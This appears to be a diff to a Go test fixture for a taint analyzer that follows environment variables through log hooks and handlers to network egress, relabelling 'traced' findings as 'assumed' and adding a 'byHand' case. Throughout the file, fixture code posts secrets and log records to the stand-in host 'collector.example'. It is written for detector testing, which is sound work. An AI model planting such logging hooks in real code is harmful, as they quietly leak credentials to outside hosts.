@@ -21,13 +21,13 @@ const U = "https://collector.example/l"
 type lines struct{}
 
 func (l *lines) Write(p []byte) (int, error) {
-	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f1, finding(traced) f1
+	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f1, finding(assumed) f1
 	return len(p), err
 }
 
 func standard(c net.Conn) {
 	log.SetOutput(&lines{})
-	log.SetOutput(c)                       //~ sink(egress.socket) f1, finding(traced) f1, capability(NETWORK)
+	log.SetOutput(c)                       //~ sink(egress.socket) f1, finding(assumed) f1, capability(NETWORK)
 	log.SetOutput(os.Stderr)               //~ ok
 	log.Printf("token %s", os.Getenv("A")) //~ source(ENVIRONMENT) f1
 	log.Printf("started")                  //~ ok
@@ -48,20 +48,20 @@ func ofOne() {
 type records struct{}
 
 func (r *records) Write(p []byte) (int, error) {
-	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f3 f4, finding(traced) f3, finding(traced) f4
+	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f3 f4, finding(assumed) f3, finding(assumed) f4
 	return len(p), err
 }
 
 type handler struct{ slog.Handler }
 
 func (h handler) Handle(ctx context.Context, r slog.Record) error {
-	_, err := http.Post(U, "text/plain", strings.NewReader(r.Message)) //~ sink(egress.http) f3 f4, finding(traced) f3, finding(traced) f4
+	_, err := http.Post(U, "text/plain", strings.NewReader(r.Message)) //~ sink(egress.http) f3 f4, finding(assumed) f3, finding(assumed) f4
 	return err
 }
 
 func structured(c net.Conn) {
 	logger := slog.New(slog.NewJSONHandler(&records{}, nil))
-	slog.NewTextHandler(c, nil)         //~ sink(egress.socket) f3 f4, finding(traced) f3, finding(traced) f4, capability(NETWORK)
+	slog.NewTextHandler(c, nil)         //~ sink(egress.socket) f3 f4, finding(assumed) f3, finding(assumed) f4, capability(NETWORK)
 	slog.NewJSONHandler(os.Stderr, nil) //~ ok
 	slog.SetDefault(slog.New(handler{}))
 	logger.Info("x", "env", os.Environ()) //~ source(ENVIRONMENT) f3
@@ -73,14 +73,14 @@ type hook struct{}
 
 func (h *hook) Fire(e *logrus.Entry) error {
 	text, _ := e.String()
-	_, err := http.Post(U, "text/plain", strings.NewReader(text)) //~ sink(egress.http) f5 f6 f7, finding(traced) f5, finding(traced) f6, finding(traced) f7
+	_, err := http.Post(U, "text/plain", strings.NewReader(text)) //~ sink(egress.http) f5 f6 f7, finding(assumed) f5, finding(assumed) f6, finding(assumed) f7
 	return err
 }
 
 type second struct{}
 
 func (h *second) Fire(e *logrus.Entry) error {
-	_, err := http.Post(U, "text/plain", strings.NewReader(e.Message)) //~ sink(egress.http) f5 f6 f7, finding(traced) f5, finding(traced) f6, finding(traced) f7
+	_, err := http.Post(U, "text/plain", strings.NewReader(e.Message)) //~ sink(egress.http) f5 f6 f7, finding(assumed) f5, finding(assumed) f6, finding(assumed) f7
 	return err
 }
 
@@ -107,4 +107,11 @@ func named(z hclog.Logger, l *logrus.Logger, o *log.Logger) {
 	e := z.With("t", os.Getenv("H")) //~ ok
 	http.Get(U + fmt.Sprint(e))      //~ ok
 	o.Println(os.Getenv("I"))        //~ ok
+}
+
+func byHand(e *logrus.Entry) {
+	e.Message = os.Getenv("J") //~ source(ENVIRONMENT) f8
+	text, _ := e.String()
+	http.Post(U, "text/plain", strings.NewReader(text)) //~ sink(egress.http) f8, finding(traced) f8
+	http.Post(U, "text/plain", strings.NewReader("x"))  //~ ok
 }
